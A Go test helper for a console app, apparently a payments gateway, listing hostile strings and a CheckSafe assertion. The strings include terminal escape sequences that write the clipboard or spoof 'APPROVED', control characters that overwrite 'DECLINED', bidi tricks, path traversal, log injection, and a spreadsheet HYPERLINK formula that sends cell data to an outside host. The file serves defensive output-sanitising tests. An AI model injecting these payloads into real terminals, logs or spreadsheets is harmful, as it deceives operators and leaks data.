package screentest

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"motoconsole/gateway"
)

// Hostile are texts that attack a terminal, a log, a table or a reader. Any text
// from outside may be one of them.
func Hostile() []string {
	return []string{
		// Sequences that set the clipboard, the title, a link, a picture; that
		// clear, move, hide, ask, leave the alternate screen; that never end.
		"\x1b]52;c;UEFO\x07", "\x1b]0;APPROVED\x07", "\x1b]8;;http://evil/\x1b\\pay\x1b]8;;\x1b\\", "\x1b[2J\x1b[3J", "\x1b[1;1HAPPROVED",
		"\x1b[8mhidden\x1b[0m", "\x1b[6n", "\x1b[21t", "\x1b[?1049l", "\x1bP$q\"p\x1b\\", "\x1bPtmux;\x1b\x1b]52;c;UEFO\x07\x1b\\",
		"\x1b_Ga=T;UEFO\x1b\\", "\x1b]1337;File=inline=1:UEFO\x07", "\x1b]777;notify;moto;APPROVED\x07", "\x9b2J", "\u009b2J", "\u009d0;x\u009c",
		"\x1b]0;never ended", "\x1b[", "trailing\x1b", strings.Repeat("\a", 1000),
		// Characters that move to other lines and places.
		"DECLINED\b\b\b\b\b\b\b\bAPPROVED", "DECLINED\rAPPROVED", "x\nAPPROVED 99.99", "a\v\f\x0e\x0f\x00\x7f\t", "\u2028\u2029", "\u0085x",
		// Invisible or reordered characters.
		"\u202e99.1", "\u2066x\u2067y\u2068z\u2069", "p\u200ba\u200ci\u200d\u2060d\ufeff", "pa\u00adid", "\U000e0041\U000e0042\U000e007f", "\u3164\u2800\u115f",
		// Widths.
		"a" + strings.Repeat("\u0301", 50), strings.Repeat("👩\u200d", 40) + "👩", "👍🏽🇬🇧", strings.Repeat("漢", 200), strings.Repeat("x", 79) + "漢", "４１１１", "١٠",
		strings.Repeat("A", 1_000_000), strings.Repeat("name ", 1000),
		// Not UTF-8.
		"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", `\ud800`,
		// Texts for other readers.
		"%s%n%!d", "{{.}}", "../../etc/passwd", `=HYPERLINK("http://e/"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", `"=1`, "＝1", " =1", "'=1",
		`","x":"`, "0 ", "null", "1050.0", "1e3", "-1", "4111111111111111", "4111 1111 1111 1111", "\n" + `{"level":"info","msg":"APPROVED"}`,
	}
}

// CheckSafe fails unless the text is printable and has this number of lines.
func CheckSafe(t testing.TB, text string, lines int, where string) {
	t.Helper()
	if !utf8.ValidString(text) || strings.Count(text, "\n") != lines {
		t.Errorf("%s: %d lines, want %d, or no UTF-8: %q", where, strings.Count(text, "\n"), lines, text)
	}
	for _, r := range strings.ReplaceAll(text, "\n", "") {
		if !unicode.IsPrint(r) {
			t.Errorf("%s: %U gets out", where, r)
			return
		}
	}
	// The columns of a table may together read as a number that no value holds.
	if where != "table" && gateway.HoldsCardNumber(text) {
		t.Errorf("%s: a card number gets out", where)
	}
}
